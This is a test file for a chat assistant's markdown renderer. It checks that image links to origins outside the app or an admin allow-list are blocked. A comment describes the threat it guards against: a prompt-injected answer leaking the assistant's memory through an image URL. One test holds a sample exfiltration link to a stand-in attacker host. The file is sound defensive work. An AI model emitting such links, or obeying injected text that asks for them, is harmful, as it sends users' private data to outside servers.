import { createElement } from "react";
import { renderToStaticMarkup } from "react-dom/server";
import { Streamdown } from "streamdown";
import { describe, expect, it } from "vitest";
import { assistantMarkdownPlugins, type ImagePolicy } from "./assistant-markdown-plugins";

function render(markdown: string, policy: ImagePolicy): string {
  return renderToStaticMarkup(
    createElement(Streamdown, { rehypePlugins: assistantMarkdownPlugins(policy) }, markdown),
  );
}

const appOnly: ImagePolicy = { appOrigin: "https://cairn.example.com", imageOrigins: [] };

// Issue 14 finding 10: Streamdown allows images from any origin, so a prompt-injected answer
// could send memory to another server in an image URL.
describe("assistant markdown images", () => {
  it("does not load an image from another origin", () => {
    const html = render("![x](https://evil.example/leak?memory=secret)", appOnly);
    expect(html).not.toContain("evil.example/leak");
    expect(html).toContain("Image blocked");
  });

  it("loads images from the app and from origins an admin allows", () => {
    expect(render("![x](/files/logo.png)", appOnly)).toContain('src="/files/logo.png"');
    expect(render("![x](https://cairn.example.com/a.png)", appOnly)).toContain(
      'src="https://cairn.example.com/a.png"',
    );
    const allowed = { ...appOnly, imageOrigins: ["https://images.example.com"] };
    expect(render("![x](https://images.example.com/a.png)", allowed)).toContain(
      'src="https://images.example.com/a.png"',
    );
  });

  it("still allows relative images when the app's origin is unknown", () => {
    const html = render("![x](/a.png) ![y](https://evil.example/b.png)", {
      appOrigin: null,
      imageOrigins: [],
    });
    expect(html).toContain('src="/a.png"');
    expect(html).not.toContain("evil.example/b.png");
  });
});
